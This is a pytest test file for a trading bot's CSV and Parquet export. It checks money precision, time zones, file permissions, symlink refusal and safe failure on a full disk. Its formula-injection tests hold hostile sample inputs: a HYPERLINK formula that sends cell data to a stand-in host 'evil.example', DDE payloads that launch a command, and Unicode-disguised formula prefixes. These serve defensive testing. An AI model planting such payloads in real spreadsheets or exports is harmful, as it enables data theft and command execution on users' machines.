import csv
import os
import resource
import stat
from dataclasses import dataclass, replace
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from bot.cli.table_files import ROWS_AT_ONCE, TABLES, export
from bot.listeners.parsing import reason
from engine.adapters.sql.reader import WHOLE
from engine.errors import SettingsInvalid
from engine.model.desk import AuditEntry, Request
from engine.model.signal import Side
from engine.model.tax_lots import TaxLot
from engine.model.trade import Order, OrderRole, OrderState
from engine.offline import rows_of
from engine.views.journal import JournalLine
from tests.support.engine_harness import EngineHarness

SEOUL = timezone(timedelta(hours=9))
AT = datetime(2025, 8, 19, 23, 45, 15, 123456, tzinfo=SEOUL)
THIRD = Decimal(1_000_000) / 3
SAID = '/reject AAPL "가격이, 너무\n높다"'
ENTRY = AuditEntry(at=AT, actor="U0TRADER", action="reject", subject="AAPL_20250819_234515", said=SAID)


@dataclass(frozen=True, kw_only=True)
class OrderOfTrade:
    """An order with its trade's id, as the books' row has it."""

    trade_id: str
    order: Order

    def __getattr__(self, name: str) -> Any:
        return getattr(self.order, name)


ORDER = OrderOfTrade(
    trade_id="AAPL_20250819_234515",
    order=Order(
        broker_id="b-1",
        client_order_id="AAPL_20250819_234515",
        role=OrderRole.ENTRY,
        symbol="AAPL",
        side=Side.BUY,
        shares=512,
        state=OrderState.FILLED,
        filled_shares=512,
        fill_price=THIRD,
        filled_at=AT,
    ),
)


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def _parquet(path: Path) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = pq.read_table(path).to_pylist()
    return rows


@pytest.mark.parametrize("table", TABLES.keys() & WHOLE.keys())
def test_every_column_is_one_of_the_books(table: str) -> None:
    assert set(TABLES[table]) <= set(WHOLE[table].selected_columns.keys())


@pytest.mark.parametrize(("table", "made_of"), [("journal", JournalLine), ("lots", TaxLot)])
def test_every_other_column_is_one_of_what_is_made_of_the_books(table: str, made_of: Any) -> None:
    assert TABLES.keys() - WHOLE.keys() == {"journal", "lots"}
    assert all(name in made_of.__dataclass_fields__ or hasattr(made_of, name) for name in TABLES[table])


def test_csv_keeps_money_to_the_last_digit(tmp_path: Path) -> None:
    assert export("orders", [ORDER], tmp_path / "orders.csv") == 1
    row = _csv(tmp_path / "orders.csv")[0]
    assert Decimal(row["fill_price"]) == THIRD
    assert (row["shares"], row["state"], row["price"]) == ("512", "filled", "")


def test_parquet_keeps_money_to_the_last_digit(tmp_path: Path) -> None:
    export("orders", [ORDER], tmp_path / "orders.parquet")
    row = _parquet(tmp_path / "orders.parquet")[0]
    assert Decimal(row["fill_price"]) == THIRD
    assert (row["shares"], row["state"], row["price"]) == (512, "filled", None)


def test_times_keep_their_zone(tmp_path: Path) -> None:
    export("audit", [ENTRY], tmp_path / "audit.csv")
    export("audit", [ENTRY], tmp_path / "audit.parquet")
    assert _csv(tmp_path / "audit.csv")[0]["at"] == "2025-08-19T14:45:15.123456+00:00"
    assert _parquet(tmp_path / "audit.parquet")[0]["at"] == AT
    assert pq.read_schema(tmp_path / "audit.parquet").field("at").type == pa.timestamp("us", tz="UTC")


def test_what_people_typed_comes_back_as_it_was(tmp_path: Path) -> None:
    for name in ("audit.csv", "audit.parquet"):
        export("audit", [ENTRY], tmp_path / name)
    assert _csv(tmp_path / "audit.csv")[0]["said"] == SAID
    assert _parquet(tmp_path / "audit.parquet")[0]["said"] == SAID


@pytest.mark.parametrize("name", ["audit.csv", "audit.parquet"])
def test_an_empty_table_still_has_its_columns(tmp_path: Path, name: str) -> None:
    assert export("audit", [], tmp_path / name) == 0
    assert list(TABLES["audit"]) == (
        pq.read_schema(tmp_path / name).names
        if name.endswith("parquet")
        else (tmp_path / name).read_text().strip().split(",")
    )


def test_more_rows_than_are_held_at_once_are_all_written(tmp_path: Path) -> None:
    many = 2 * ROWS_AT_ONCE + 1
    assert export("audit", (ENTRY for _ in range(many)), tmp_path / "audit.parquet") == many
    assert len(_parquet(tmp_path / "audit.parquet")) == many


FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "  =1+1",
        "＝1+1",
        "＠A1",
    ),
    *(
        '=HYPERLINK("http://evil.example/?x="&A1,"Error: click to reload")',
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ),
    *("－1", "+", "-", "@", "=", "\t"),
    *("﹦1+1", "﹢1+1", "﹣1+1", "﹫A1", "⁼1"),
    *("\u200c=1+1", "\u2060=1+1", "\u00ad=1+1", "\u200e=1+1", "\u202e+1+1", "\x7f=1", "\x1b@A1"),
)


@pytest.mark.parametrize("said", FORMULAS)
@pytest.mark.parametrize("column", ["actor", "subject", "said", "outcome", "why"])
def test_no_cell_of_an_export_is_a_formula_to_a_spreadsheet(tmp_path: Path, column: str, said: str) -> None:
    for name in ("audit.csv", "audit.parquet"):
        typed = replace(ENTRY, **{column: said})  # type: ignore[arg-type]  # each of these is a text
        export("audit", [typed], tmp_path / name)
    assert _csv(tmp_path / "audit.csv")[0][column] == f"'{said}"
    assert _parquet(tmp_path / "audit.parquet")[0][column] == said


def test_a_traders_words_are_no_formula_in_any_export(tmp_path: Path) -> None:
    harness = EngineHarness.at_the_example(tmp_path)
    trade = harness.play_the_signal()
    assert trade is not None
    said = reason('=HYPERLINK("http://evil.example/?x="&A1,"Error: click to reload")')
    harness.engine.commands.reject(trade.id, Request(by="U0TRADER", said=said, id="1"), said)
    cells = []
    for table in TABLES:
        with harness.store.reading() as reader:
            export(table, rows_of(reader, table), tmp_path / f"{table}.csv")
        cells += [cell for row in _csv(tmp_path / f"{table}.csv") for cell in row.values()]
    assert [cell for cell in cells if "HYPERLINK" in cell] == [f"'{said}"] * 5
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
    harness.close()


@pytest.mark.parametrize(
    "said", ["", "0", "-12.5", "+3", "AAPL", "a=b", "/halt now", "https://example.com", "손절 -1", "\u200b손절"]
)
def test_what_is_no_formula_stays_as_it_was(tmp_path: Path, said: str) -> None:
    export("audit", [replace(ENTRY, why=said)], tmp_path / "audit.csv")
    assert _csv(tmp_path / "audit.csv")[0]["why"] == said


def test_taking_one_apostrophe_away_gives_what_was_typed(tmp_path: Path) -> None:
    typed = [*FORMULAS, "'", "'=1", "''=1", "'tis", "it's"]
    export("audit", [replace(ENTRY, why=said) for said in typed], tmp_path / "audit.csv")
    assert [row["why"].removeprefix("'") for row in _csv(tmp_path / "audit.csv")] == typed


def test_money_below_zero_stays_a_number(tmp_path: Path) -> None:
    negative = replace(ORDER, order=replace(ORDER.order, fill_price=Decimal("-1.25")))
    export("orders", [negative], tmp_path / "orders.csv")
    assert _csv(tmp_path / "orders.csv")[0]["fill_price"] == "-1.25"


@pytest.mark.parametrize("name", ["audit.csv", "audit.parquet"])
def test_an_export_is_its_owners_alone(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("old")
    (tmp_path / name).chmod(0o666)
    export("audit", [ENTRY], tmp_path / name)
    assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600


@pytest.mark.parametrize("name", ["audit.csv", "audit.parquet"])
def test_a_link_that_somebody_planted_is_not_followed(tmp_path: Path, name: str) -> None:
    for target in (tmp_path / "precious", tmp_path / "nothing"):
        (tmp_path / "precious").write_text("precious")
        (tmp_path / name).unlink(missing_ok=True)
        (tmp_path / name).symlink_to(target)
        with pytest.raises(SettingsInvalid, match="is a link"):
            export("audit", [ENTRY], tmp_path / name)
    assert (tmp_path / "precious").read_text() == "precious"
    assert not (tmp_path / "nothing").exists()


def test_a_link_at_the_name_of_a_part_is_not_written_through(tmp_path: Path) -> None:
    (tmp_path / "precious").write_text("precious")
    (tmp_path / "audit.csv.part").symlink_to(tmp_path / "precious")
    assert export("audit", [ENTRY], tmp_path / "audit.csv") == 1
    assert (tmp_path / "precious").read_text() == "precious"


def test_a_place_that_is_no_file_is_left_alone(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "audit.csv")
    with pytest.raises(SettingsInvalid, match="no file"):
        export("audit", [ENTRY], tmp_path / "audit.csv")


@pytest.mark.parametrize("name", ["audit.csv", "audit.parquet"])
def test_a_disk_that_takes_no_more_is_said_and_leaves_what_was_there(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text("old")
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (16_384, before[1]))  # which the system refuses as it does a full disk
    try:
        with pytest.raises(SettingsInvalid, match="cannot be written"):
            export("audit", (replace(ENTRY, why=os.urandom(64).hex()) for _ in range(5_000)), path)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_broken_export_leaves_what_was_there(tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    path.write_text("old")
    with pytest.raises(AttributeError):
        export("audit", [ENTRY, object()], path)
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize(
    ("table", "name", "expected"),
    [
        ("audit", "audit.xlsx", r"ends in \.csv or \.parquet"),
        ("prices", "prices.csv", "expected one of trades, orders"),
        ("audit", "no/such/folder/audit.csv", "cannot be written"),
    ],
)
def test_what_cannot_be_written_is_said_in_one_line(tmp_path: Path, table: str, name: str, expected: str) -> None:
    with pytest.raises(SettingsInvalid, match=expected):
        export(table, [], tmp_path / name)
